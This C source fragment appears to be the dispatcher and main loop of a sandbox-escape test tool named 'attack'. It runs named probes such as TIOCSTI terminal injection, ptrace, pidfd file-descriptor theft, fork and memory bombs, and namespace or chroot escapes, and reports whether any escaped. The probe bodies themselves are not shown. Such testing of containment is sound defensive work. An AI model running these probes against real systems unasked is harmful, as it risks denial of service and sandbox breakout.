	{"open-tree", 1, v_open_tree}, {"chroot", 1, v_chroot}, {"setns", 1, v_setns}, {"shm", 1, v_shm},
	{"tiocsti", -1, v_tiocsti}, {"tioclinux", -1, v_tioclinux}, {"isatty", 1, v_isatty},
	{"ptrace", 1, v_ptrace}, {"pidfd-getfd", 2, v_pidfd_getfd}, {"kill", 2, v_kill},
	{"killall", 1, v_killall}, {"pids", 0, v_pids}, {"daemon", 3, v_daemon}, {"hold", 3, v_hold},
	{"forkbomb", 1, v_forkbomb}, {"membomb", 1, v_membomb}, {"argv", -2, v_argv},
	{"connect-unix", 1, v_connect_unix}, {"scm", 1, v_scm}, {"family", 1, v_family}, {"socketcall", 1, v_socketcall},
	{"inet", 3, v_inet}, {"bind-inet", 2, v_bind_inet},
};

static int step(char **args, int n)
{
	const struct verb *v = NULL;
	const char *name = args[0];
	int prep = name[0] == '+';
	for (size_t i = 0; i < sizeof verbs / sizeof verbs[0]; i++)
		if (strcmp(verbs[i].name, name + prep) == 0)
			v = &verbs[i];
	int want = v == NULL ? 0 : v->nargs;
	if (v == NULL || (want >= 0 && n - 1 != want) || (want == -1 && (n < 2 || n > 3))) {
		fprintf(stderr, "attack: bad step %s (%d arguments)\n", args[0], n - 1);
		return 2;
	}
	char *a[4] = {0};
	for (int i = 1; i < n && i < 4; i++)
		a[i - 1] = args[i];
	extra[0] = 0;
	printf("%s", args[0]);
	if (want == -2)
		n = 1;
	for (int i = 1; i < n; i++)
		printf("%s%s", i == 1 ? "(" : ",", args[i]);
	printf("%s ", n > 1 ? ")" : "");
	fflush(stdout);
	int r = v->fn(a);
	switch (r) {
	case RES_OK:
		printf("OK");
		escaped = escaped || !prep;
		break;
	case RES_INFO:
		printf("INFO");
		break;
	case RES_EMPTY:
		printf("EMPTY");
		break;
	case RES_USAGE:
		printf("USAGE\n");
		return 2;
	case RES_DONE: /* the step printed its own result */
		return 0;
	default:
		printf("%s", errname(r));
	}
	if (extra[0])
		printf(" %s", extra);
	printf("\n");
	fflush(stdout);
	return 0;
}

int main(int argc, char **argv)
{
	g_argc = argc;
	g_argv = argv;
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 2) {
		fprintf(stderr, "usage: attack VERB [ARG...] [';' VERB [ARG...]]...\n");
		return 2;
	}
	int start = 1;
	for (int i = 1; i <= argc; i++) {
		if (i < argc && strcmp(argv[i], ";") != 0)
			continue;
		if (i > start && step(argv + start, i - start) != 0)
			return 2;
		start = i + 1;
	}
	return escaped ? ESCAPED : 0;
}
